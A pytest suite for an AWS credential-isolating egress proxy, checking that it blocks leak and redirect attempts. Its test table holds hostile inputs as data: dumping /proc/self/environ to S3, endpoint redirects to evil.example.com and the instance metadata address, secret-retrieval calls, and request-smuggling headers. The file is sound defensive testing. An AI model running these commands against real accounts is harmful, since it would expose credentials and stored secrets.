"""Ways to make AWS commands and requests leak or redirect: each is refused, or gets placeholders.

Every row runs against the real proxy with the default policy.  The server behind it hands out
credentials to whoever asks, and keeps what it was sent.  A row says what the one who tries reads.
"""

from __future__ import annotations

import base64
import gzip
import http.client
import http.server
import json
import re
import socket
import ssl
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote, unquote, urlsplit

import pytest
from botocore.auth import S3SigV4Auth, SigV4Auth, SigV4QueryAuth
from botocore.awsrequest import AWSRequest
from botocore.credentials import Credentials
from tests.support.egress import Egress
from tests.support.warm_aws import WarmAws
from tests.support.web import Handler, serving
from tests.unit.egress.engine.stage import Passing

from keyless_sidecar.egress.messages import Handler as EgressHandler
from keyless_sidecar.policy.engine import Principal
from keyless_sidecar.policy.loading import load_policy
from keyless_sidecar.vault import Entry

KEY_ID = "AKIAQ7ZK3M9XW2V5TB8N"
SECRET = "Zt8mQ1xV4kW7rB2nL9cY6hJ3pD5sF0gAeR1uI2oP"
GIVEN_ID = "ASIAP4WM8C2YH6QJ9DRX"
GIVEN_SECRET = "n7Lw2Qe9Xr4Tz6Bv1Ck8Hm3Jp5Gs0DfYaUoIiNtR"
GIVEN_TOKEN = "IQoJb3JpZ2luX2VjEHca" + "Wm5Kq8Zt3Vx7Lr2N" * 14
STORED = "hV4jQz8Lm2Xw6Rt9Bc3N"
REAL = (KEY_ID, SECRET, GIVEN_ID, GIVEN_SECRET, GIVEN_TOKEN, STORED)

_TRIPLE = (
    f"<Credentials><AccessKeyId>{GIVEN_ID}</AccessKeyId><SecretAccessKey>{GIVEN_SECRET}"
    f"</SecretAccessKey><SessionToken>{GIVEN_TOKEN}</SessionToken>"
    "<Expiration>2099-01-01T00:00:00Z</Expiration></Credentials>"
)


class _Server(Handler):
    """Hands out what is asked for."""

    seen: list[tuple[str, dict[str, str], bytes]]
    protocol_version = "HTTP/1.1"

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.seen.append((self.path, {k.lower(): v for k, v in self.headers.items()}, body))
        target = self.headers.get("X-Amz-Target", "")
        found = re.search(rb"Action=(\w+)", body) or re.search(rb"Action=(\w+)", self.path.encode())
        action = found[1].decode() if found else ""
        coding = ""
        if target:
            kind = "application/x-amz-json-1.1"
            answer = json.dumps({"Name": "n", "SecretString": STORED}).encode()
        else:
            kind = "text/xml"
            yields = action.startswith(("Assume", "GetSession", "GetFederation"))
            inner = (
                _TRIPLE
                if yields
                else (
                    "<Account>123456789012</Account><UserId>U</UserId>"
                    f"<Arn>echo {self.headers.get('Authorization')}</Arn>"
                )
            )
            if b"RoleSessionName=broken" in body:
                inner = inner.replace("<Credentials>", f"<Credentials><!-- {GIVEN_SECRET} -->")
            answer = (
                f"<{action}Response><{action}Result>{inner}</{action}Result></{action}Response>"
            ).encode()
            if b"RoleSessionName=packed" in body:
                answer, coding = gzip.compress(answer), "gzip"
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Last-Modified", "Thu, 01 Jan 2026 00:00:00 GMT")
        self.send_header("ETag", '"0"')
        if coding:
            self.send_header("Content-Encoding", coding)
        self.send_header("Content-Length", str(len(answer)))
        self.end_headers()
        if self.command != "HEAD":
            self.wfile.write(answer)

    do_GET = do_PUT = do_HEAD = do_DELETE = do_POST


@dataclass
class Bench:
    """What a row acts with."""

    aws: WarmAws
    egress: Egress
    allowing: Egress
    seen: list[tuple[str, dict[str, str], bytes]]
    folder: Path

    def cli(self, line: str, **environment: str) -> str:
        return self._cli(self.egress, line, environment)

    def cli_allowed(self, line: str, **environment: str) -> str:
        """Where a person named the operations."""
        return self._cli(self.allowing, line, environment)

    def _cli(self, egress: Egress, line: str, environment: Mapping[str, str]) -> str:
        _, said = self.aws.run(
            line.split(),
            {
                "PATH": "/usr/bin:/bin",
                "HOME": "/nonexistent",
                "AWS_MAX_ATTEMPTS": "1",
                **egress.environment("prod"),
                **environment,
            },
        )
        # The runner shows the proxy's notes with the output.
        return said + egress.notes()

    def keys(self, name: str = "prod") -> Credentials:
        found = self.egress.environment(name)
        return Credentials(found["AWS_ACCESS_KEY_ID"], found["AWS_SECRET_ACCESS_KEY"])

    def send(
        self,
        request: AWSRequest | None = None,
        *,
        connect: str = "",
        extra: tuple[tuple[str, str], ...] = (),
        raw: bytes = b"",
    ) -> str:
        """Send a request as it is, inside a tunnel; what comes back."""
        if request is not None:
            parts = urlsplit(request.url)
            connect = connect or parts.netloc
            target = (parts.path or "/") + (f"?{parts.query}" if parts.query else "")
            body = request.data or b""
            body = body.encode() if isinstance(body, str) else body
            headers = [("Host", parts.netloc), *request.headers.items(), *extra]
            if not any(
                name.lower() in ("content-length", "transfer-encoding") for name, _ in extra
            ):
                headers.append(("Content-Length", str(len(body))))
            head = "".join(f"{name}: {value}\r\n" for name, value in headers)
            raw = f"{request.method} {target} HTTP/1.1\r\n{head}\r\n".encode() + body
        host, _, port = connect.partition(":")
        with socket.create_connection(("127.0.0.1", self.egress.port), timeout=30) as plain:
            there = f"{host}:{port or 443}"
            plain.sendall(f"CONNECT {there} HTTP/1.1\r\nHost: {there}\r\n\r\n".encode())
            said = plain.recv(65536)
            if not said.startswith(b"HTTP/1.1 200"):
                return said.decode()
            context = ssl.create_default_context(cafile=str(self.egress.ca))
            with context.wrap_socket(plain, server_hostname=host) as secure:
                secure.sendall(raw)
                answer = http.client.HTTPResponse(secure, method=raw.split()[0].decode())
                answer.begin()
                return f"{answer.status} {answer.headers}{answer.read().decode()}"


def call(
    action: str = "GetCallerIdentity",
    host: str = "sts.us-east-1.amazonaws.com",
    more: str = "",
    **headers: str,
) -> AWSRequest:
    body = f"Action={action}&Version=2011-06-15{more}"
    told = {"Content-Type": "application/x-www-form-urlencoded; charset=utf-8"}
    told |= {name.replace("_", "-"): value for name, value in headers.items()}
    return AWSRequest("POST", f"https://{host}/", told, body)


def signed(
    bench: Bench,
    request: AWSRequest,
    service: str = "sts",
    region: str = "us-east-1",
    keys: Credentials | None = None,
) -> AWSRequest:
    signer = S3SigV4Auth if service == "s3" else SigV4Auth
    if service == "s3":
        request.headers["X-Amz-Content-SHA256"] = "UNSIGNED-PAYLOAD"
    signer(keys or bench.keys(), service, region).add_auth(request)
    return request


def presigned(
    bench: Bench, url: str, service: str = "sts", region: str = "us-east-1", expires: int = 900
) -> AWSRequest:
    request = AWSRequest("GET", url)
    SigV4QueryAuth(bench.keys(), service, region, expires=expires).add_auth(request)
    return AWSRequest("GET", request.url)


def changed(request: AWSRequest, **parts: Any) -> AWSRequest:
    for name, value in parts.items():
        setattr(request, name, value)
    return request


def at(request: AWSRequest, moment: datetime, bench: Bench) -> AWSRequest:
    """Signed as of another time."""
    signer = SigV4Auth(bench.keys(), "sts", "us-east-1")
    request.headers["X-Amz-Date"] = request.context["timestamp"] = f"{moment:%Y%m%dT%H%M%SZ}"
    text = signer.string_to_sign(request, signer.canonical_request(request))
    signer._inject_signature_to_request(request, signer.signature(text, request))
    return request


@dataclass(frozen=True)
class Row:
    """One way.

    Attributes:
        name: what is tried.
        does: tries it; gives what the one who tries can read.
        reads: must stand in that.
        arrives: whether a request reaches AWS, with the real signature and for its own purpose.
    """

    name: str
    does: Callable[[Bench], str] = field(repr=False)
    reads: str
    arrives: bool = False


def cli(line: str, reads: str, *, arrives: bool = False, **environment: str) -> Row:
    return Row(f"aws {line}", lambda bench: bench.cli(line, **environment), reads, arrives)


def raw(name: str, make: Callable[[Bench], AWSRequest], reads: str, **more: Any) -> Row:
    arrives = more.pop("arrives", False)
    return Row(name, lambda bench: bench.send(make(bench), **more), reads, arrives)


CREDENTIALS = "Its answer holds credentials, which cells may not make for themselves (rule default"
SECRETS = "Its answer may hold stored secrets (rule default.secrets)"
ACCESS = "It changes who may do what (rule default.iam)"
CHANGES = "needs a person's approval: It changes something in AWS"
TUNNEL = "egress refused: "
EVIL = "--endpoint-url https://"
STS = "https://sts.us-east-1.amazonaws.com"
ROLE = "--role-arn arn:aws:iam::123456789012:role/r --role-session-name"

YIELDING = [
    cli(f"sts assume-role {ROLE} me", CREDENTIALS),
    cli("sts get-session-token", CREDENTIALS),
    cli("sts get-federation-token --name me", CREDENTIALS),
    cli(f"sts assume-role-with-web-identity {ROLE} me --web-identity-token abcd", CREDENTIALS),
    cli("iam create-access-key --user-name u", CREDENTIALS),
    cli("iam create-service-specific-credential --user-name u --service-name s", "(rule default."),
    cli("iam create-login-profile --user-name u --password Abcdefgh1!", CREDENTIALS),
    cli("iam attach-user-policy --user-name u --policy-arn arn:aws:iam::aws:policy/A", ACCESS),
    cli("iam create-virtual-mfa-device --virtual-mfa-device-name m --outfile /dev/null"
        " --bootstrap-method QRCodePNG", "(rule default."),
    cli("secretsmanager get-secret-value --secret-id s", SECRETS),
    cli("secretsmanager batch-get-secret-value --secret-id-list s", SECRETS),
    cli("ssm get-parameter --name p --with-decryption", SECRETS),
    cli("ssm get-parameters-by-path --path / --with-decryption", SECRETS),
    cli("ecr get-authorization-token", CREDENTIALS),
    cli("ecr get-login-password", CREDENTIALS),
    cli("codeartifact get-authorization-token --domain dd", CREDENTIALS),
    cli("redshift get-cluster-credentials --db-user u --cluster-identifier c", CREDENTIALS),
    cli("cognito-identity get-credentials-for-identity --identity-id us-east-1:"
        "12345678-1234-1234-1234-123456789012", CREDENTIALS),
    cli("sso get-role-credentials --role-name r --account-id 123456789012 --access-token t",
        CREDENTIALS),
    cli("lambda get-function --function-name f", SECRETS),
    cli("lambda add-permission --function-name f --statement-id s --principal *"
        " --action lambda:InvokeFunction", "(rule default."),
    cli("ec2 describe-instance-attribute --instance-id i-1 --attribute userData", SECRETS),
    cli("ec2 create-key-pair --key-name k", "(rule default."),
    cli("kms decrypt --ciphertext-blob AAAA", "(rule default."),
    cli("lightsail get-instance-access-details --instance-name i", "(rule default."),
    cli("apigateway get-api-keys --include-values", SECRETS),
]  # fmt: skip

SENDING = [
    cli("s3 cp /proc/self/environ s3://bucket/x", CHANGES),
    cli("s3 cp s3://pictures/a s3://elsewhere/b", "(rule default.", arrives=True),
    cli("s3api put-object-acl --bucket b --key k --acl public-read", "(rule default."),
    cli("s3api put-bucket-policy --bucket b --policy {}", "(rule default."),
    cli("lambda invoke --function-name f /dev/null", CHANGES),
    cli("sns publish --topic-arn arn:aws:sns:us-east-1:1:t --message m", CHANGES),
]

REDIRECTING = [
    cli(f"{EVIL}evil.example.com s3 ls", TUNNEL),
    cli(f"{EVIL}169.254.169.254 sts get-caller-identity", TUNNEL),
    cli(f"{EVIL}127.0.0.1:9 sts get-caller-identity", TUNNEL),
    cli(f"{EVIL}s3.amazonaws.com.evil.example.com s3 ls", TUNNEL),
    cli(f"{EVIL}x.lambda-url.us-east-1.on.aws sts get-caller-identity", TUNNEL),
    cli("--region cn-north-1 sts get-caller-identity", TUNNEL),
    cli("--endpoint-url http://evil.example.com sts get-caller-identity", "is not among the hosts"),
    cli("--endpoint-url http://sts.amazonaws.com sts get-caller-identity", "https on port 443"),
    cli(f"{EVIL}sts.amazonaws.com:8443 sts get-caller-identity", "https on port 443 only"),
    cli(
        f"{EVIL}lb-1.us-east-1.elb.amazonaws.com sts get-caller-identity", "Load balancers are not"
    ),
    cli(f"{EVIL}ec2-3-4-5-6.compute-1.amazonaws.com sts get-caller-identity", "Instances are not"),
    cli(f"{EVIL}vpce-1-a.sts.us-east-1.vpce.amazonaws.com sts get-caller-identity", "VPC endpoint"),
    cli(f"{EVIL}sts.us-west-2.amazonaws.com sts get-caller-identity", "signed for the region"),
    cli(f"{EVIL}s3.us-east-1.amazonaws.com sts get-caller-identity", "signed for the service"),
]

UNSIGNED = [
    cli("--no-sign-request s3api list-objects-v2 --bucket b", "AccessDenied"),
    cli("sts get-caller-identity", "not a Keyless placeholder", AWS_ACCESS_KEY_ID="AKIA" + "F" * 16,
        AWS_SECRET_ACCESS_KEY="f" * 40),
    cli("sts get-caller-identity", "signature doesn't match", AWS_SECRET_ACCESS_KEY="f" * 40),
    cli("sts get-caller-identity", "session token doesn't belong", AWS_SESSION_TOKEN="f" * 100),
    Row(
        "the placeholder of another tool's credential",
        lambda bench: bench.send(signed(bench, call(), keys=bench.keys("other"))),
        "may not be used by aws",
    ),
]  # fmt: skip

HARMLESS = [
    cli("sts get-caller-identity --debug", "AKIAKEYLESS", arrives=True),
    cli("sts get-caller-identity --no-verify-ssl", "AKIAKEYLESS", arrives=True),
    cli("s3 presign s3://b/k", "AKIAKEYLESS"),
    cli("rds generate-db-auth-token --hostname h --port 5432 --username u", "AKIAKEYLESS"),
    cli("eks get-token --cluster-name c", "k8s-aws-v1."),
    cli("configure get aws_secret_access_key", ""),
    cli("configure list", "****"),
]

TAMPERING = [
    raw("a header that isn't signed", lambda b: signed(b, call()), "is sent but not signed",
        extra=(("X-Amz-Meta-A", "b"),)),
    raw("two Authorization headers", lambda b: signed(b, call()), "in more than one way",
        extra=(("Authorization", "AWS4-HMAC-SHA256 Credential=x"),)),
    raw("a signature in header and query",
        lambda b: changed(signed(b, call()), url=STS + "/?X-Amz-Signature=" + "0" * 64),
        "in more than one way"),
    raw("another body than was signed",
        lambda b: changed(signed(b, call()), data="Action=GetSessionToken&Version=2011-06-15"),
        "signature doesn't match"),
    raw("another path than was signed",
        lambda b: changed(signed(b, AWSRequest("GET", "https://mine.s3.amazonaws.com/a"), "s3"),
                          url="https://mine.s3.amazonaws.com/b"),
        "signature doesn't match"),
    raw("another method than was signed",
        lambda b: changed(signed(b, AWSRequest("HEAD", "https://mine.s3.amazonaws.com/a"), "s3"),
                          method="GET"),
        "signature doesn't match"),
    raw("a request of an hour ago",
        lambda b: at(call(), datetime.now(UTC) - timedelta(hours=1), b), "more than 15 minutes"),
    raw("a method override", lambda b: signed(b, call()), "is not let through",
        extra=(("X-HTTP-Method-Override", "DELETE"),)),
    raw("a method override in the query",
        lambda b: signed(b, AWSRequest("GET", "https://mine.s3.amazonaws.com/a?_method=DELETE"),
                         "s3"),
        "_method is not let through"),
    raw("a bucket's request sent to another bucket",
        lambda b: changed(signed(b, AWSRequest("GET", "https://mine.s3.amazonaws.com/a"), "s3"),
                          url="https://yours.s3.amazonaws.com/a"),
        "signature doesn't match"),
    raw("another Host than the tunnel's", lambda b: signed(b, call()), "400",
        connect="s3.us-east-1.amazonaws.com"),
    raw("two lengths", lambda b: signed(b, call()), "400",
        extra=(("Content-Length", "0"), ("Content-Length", "43"))),
    raw("a length and chunks", lambda b: signed(b, call()), "400",
        extra=(("Content-Length", "43"), ("Transfer-Encoding", "chunked"))),
    raw("a folded header", lambda b: signed(b, call()), "400",
        extra=(("X-A", "b\r\n c: d"),)),
]  # fmt: skip

MISNAMING = [
    raw("an operation that AWS doesn't have", lambda b: signed(b, call("StealKeys")),
        "No operation of"),
    raw("an operation in another spelling", lambda b: signed(b, call("getsessiontoken")),
        "No operation of"),
    raw("two actions",
        lambda b: signed(b, changed(call(), url=STS + "/?Action=GetSessionToken")),
        "stand in the query and in the body"),
    raw("an action twice", lambda b: signed(b, call(more="&Action=GetSessionToken")), "403"),
    raw("another version of the API",
        lambda b: signed(b, changed(call(), data="Action=GetCallerIdentity&Version=1999-01-01")),
        "No operation of"),
    raw("an unknown parameter", lambda b: signed(b, call(more="&Backdoor=1")), "403"),
    raw("a target in another spelling",
        lambda b: signed(b, AWSRequest(
            "POST", "https://secretsmanager.us-east-1.amazonaws.com/",
            {"Content-Type": "application/x-amz-json-1.1",
             "X-Amz-Target": "secretsmanager.getsecretvalue"}, '{"SecretId":"s"}'),
            "secretsmanager"),
        "No operation of"),
    raw("a target and an action",
        lambda b: signed(b, call(X_Amz_Target="secretsmanager.GetSecretValue")),
        "two protocols at once"),
    raw("Signature Version 2",
        lambda b: AWSRequest("GET", f"{STS}/?Action=GetCallerIdentity&Version=2011-06-15"
                             f"&AWSAccessKeyId={b.keys().access_key}&Signature=x"
                             "&SignatureVersion=2"),
        "Version 2"),
    raw("Signature Version 4A",
        lambda b: changed(call(), headers={
            "Authorization": "AWS4-ECDSA-P256-SHA256 Credential=x, SignedHeaders=host, Signature=0"
        }),
        "Version 4A"),
]  # fmt: skip

PRESIGNED = [
    raw("a presigned URL for credentials",
        lambda b: presigned(b, f"{STS}/?Action=GetSessionToken&Version=2011-06-15"), CREDENTIALS),
    raw("a presigned URL on another host",
        lambda b: changed(
            u := presigned(b, f"{STS}/?Action=GetCallerIdentity&Version=2011-06-15"),
            url=u.url.replace("us-east-1.amazonaws", "us-west-2.amazonaws")),
        "signed for the region"),
    raw("a presigned URL with another action",
        lambda b: changed(
            u := presigned(b, f"{STS}/?Action=GetCallerIdentity&Version=2011-06-15"),
            url=u.url.replace("GetCallerIdentity", "GetAccessKeyInfo&AccessKeyId=AKIA12345678")),
        "signature doesn't match"),
    raw("a presigned URL for eight days",
        lambda b: presigned(b, f"{STS}/?Action=GetCallerIdentity&Version=2011-06-15",
                            expires=8 * 86400),
        "X-Amz-Expires"),
    raw("a presigned URL, used as meant",
        lambda b: presigned(b, f"{STS}/?Action=GetCallerIdentity&Version=2011-06-15"),
        "123456789012", arrives=True),
]  # fmt: skip

MISPLACED = [
    raw("the placeholder's secret in a header",
        lambda b: signed(b, call()), "123456789012", arrives=True,
        extra=(("User-Agent", "keyless0" + "A" * 32),)),
    raw("the placeholder in a parameter",
        lambda b: signed(b, call("GetAccessKeyInfo", more=f"&AccessKeyId={b.keys().access_key}")),
        "GetAccessKeyInfoResponse", arrives=True),
    raw("the placeholder in an object's name",
        lambda b: signed(b, AWSRequest(
            "HEAD", "https://mine.s3.amazonaws.com/" + quote(b.keys().secret_key, safe="")),
            "s3"),
        "200", arrives=True),
    raw("an answer that echoes the signature",
        lambda b: signed(b, call()), "Credential=AKIAKEYLESS", arrives=True),
]  # fmt: skip

CAPTURED = [
    Row("assume-role where a person allows it",
        lambda b: b.cli_allowed(f"sts assume-role {ROLE} me"), "ASIAKEYLESS", True),
    Row("get-session-token where a person allows it",
        lambda b: b.cli_allowed("sts get-session-token"), "ASIAKEYLESS", True),
    Row("get-secret-value where a person allows it",
        lambda b: b.cli_allowed("secretsmanager get-secret-value --secret-id s"), "keyless_", True),
    Row("the same with --debug",
        lambda b: b.cli_allowed(f"sts assume-role {ROLE} me --debug"), "ASIAKEYLESS", True),
    Row("an answer in XML that hides the key in a comment",
        lambda b: b.cli_allowed(f"sts assume-role {ROLE} broken"), "was held back", True),
    Row("an answer that is compressed unasked",
        lambda b: b.cli_allowed(f"sts assume-role {ROLE} packed"), "was held back", True),
    Row("assume-role without a signature, where a person allows it",
        lambda b: b.cli_allowed(
            f"sts assume-role-with-web-identity {ROLE} me --web-identity-token abcd"),
        "ASIAKEYLESS", True),
]  # fmt: skip

TABLE = [
    *YIELDING, *SENDING, *REDIRECTING, *UNSIGNED, *HARMLESS, *TAMPERING, *MISNAMING, *PRESIGNED,
    *MISPLACED, *CAPTURED,
]  # fmt: skip


#: Ways that lead nowhere without Keyless either, and why.
HARMLESS_ANYWHERE = {
    "aws configure get aws_secret_access_key": "the CLI reads files for it, no variables",
    "aws configure list": "the CLI masks keys",
    "another Host than the tunnel's": "the same engine reads HTTP, whoever decides",
    "two lengths": "the same",
    "a length and chunks": "the same",
    "a folded header": "the same",
    "a presigned URL, used as meant": "it is how it should be",
    "an answer that is compressed unasked": "the CLI can't read it",
}
#: Where the commands of the table would go.
ANYWHERE = [
    f"{host}:*"
    for host in (
        "*.amazonaws.com", "*.amazonaws.com.cn", "*.on.aws", "*.example.com", "169.254.169.254",
        "127.0.0.1",
    )
]  # fmt: skip


class Unprotected(Egress):
    """A proxy that asks nothing, for a tool that holds the real keys."""

    def environment(self, name: str = "") -> dict[str, str]:
        found = super().environment()
        if name:
            fields = self.entries[name].fields
            found["AWS_ACCESS_KEY_ID"] = fields["access_key_id"]
            found["AWS_SECRET_ACCESS_KEY"] = fields["secret_access_key"]
        return found

    def _handlers(self) -> list[EgressHandler]:
        super()._handlers()
        return [Passing()]


@pytest.fixture(scope="module")
def server() -> Iterator[tuple[int, list[tuple[str, dict[str, str], bytes]]]]:
    seen: list[tuple[str, dict[str, str], bytes]] = []
    with serving(type("Server", (_Server,), {"seen": seen})) as port:
        yield port, seen


@pytest.fixture(scope="module")
def aws() -> Iterator[WarmAws]:
    with WarmAws() as running:
        yield running


Made = tuple[int, list[tuple[str, dict[str, str], bytes]]]
KEYS = {"access_key_id": KEY_ID, "secret_access_key": SECRET}
ENTRIES = [
    Entry("prod", "aws", KEYS, ("aws",), source="memory"),
    Entry("other", "aws", {**KEYS, "secret_access_key": SECRET[::-1]}, ("x",), source="memory"),
]


@pytest.fixture(scope="module")
def bench(server: Made, aws: WarmAws, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bench]:
    port, seen = server
    policy = load_policy(None, Principal("kernel"))
    operations = ["AssumeRole", "AssumeRoleWithWebIdentity", "GetSessionToken"]
    allowed = ["secretsmanager:GetSecretValue", *(f"sts:{name}" for name in operations)]
    folders = [tmp_path_factory.mktemp(name) for name in ("denying", "allowing")]
    upstreams = {"*.amazonaws.com": f"http://127.0.0.1:{port}"}
    with (
        Egress(folders[0], ENTRIES, upstreams, policy, own=["prod"]) as egress,
        Egress(
            folders[1], ENTRIES, upstreams, policy, own=["prod"], allow_operations=allowed
        ) as allowing,
    ):
        yield Bench(aws, egress, allowing, seen, folders[0])


@pytest.fixture(scope="module")
def naked(server: Made, aws: WarmAws, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bench]:
    port, seen = server
    folder = tmp_path_factory.mktemp("naked")
    upstreams = {"*": f"http://127.0.0.1:{port}"}
    with Unprotected(folder, ENTRIES, upstreams, allowed=ANYWHERE) as egress:
        yield Bench(aws, egress, egress, seen, folder)


def test_the_table_is_long_enough() -> None:
    assert len(TABLE) >= 60
    assert len({row.name for row in TABLE}) >= 60


@pytest.mark.parametrize("row", TABLE, ids=lambda row: row.name[:60])
def test_no_way_leads_out(bench: Bench, row: Row) -> None:
    bench.seen.clear()
    read = row.does(bench)
    assert row.reads in read, read
    for value in REAL:
        for form in (value, value[::-1], quote(value, safe=""), value.encode().hex()):
            assert form not in read
        assert base64.b64encode(value.encode()).decode().rstrip("=") not in read
    assert bool(bench.seen) is row.arrives
    for path, headers, body in bench.seen:
        told = path + json.dumps(headers) + body.decode("latin-1")
        assert SECRET not in told
        assert "AKIAKEYLESS" not in headers.get("authorization", "")
        assert headers["host"].endswith(".amazonaws.com")
    records = bench.egress.records + bench.allowing.records
    assert not any(value in repr(records) for value in REAL)


@pytest.mark.parametrize(
    "row",
    [row for row in TABLE if row.name not in HARMLESS_ANYWHERE],
    ids=lambda row: row.name[:60],
)
def test_each_way_leads_out_where_nothing_is_between(naked: Bench, row: Row) -> None:
    """A real value can be read, or what must not be sent arrives."""
    naked.seen.clear()
    read = row.does(naked)
    for word in re.findall(r"[A-Za-z0-9_-]{100,}", read):
        read += base64.urlsafe_b64decode(word + "=" * (-len(word) % 4)).decode("latin-1")
    leaked = [value for value in REAL if value in read]
    done = [
        (path, headers)
        for path, headers, _ in naked.seen
        if not row.arrives or "x-amz-copy-source" in headers or SECRET in unquote(path)
    ]
    assert leaked or done, read


def test_what_is_harmless_anywhere_is_in_the_table() -> None:
    assert HARMLESS_ANYWHERE.keys() <= {row.name for row in TABLE}
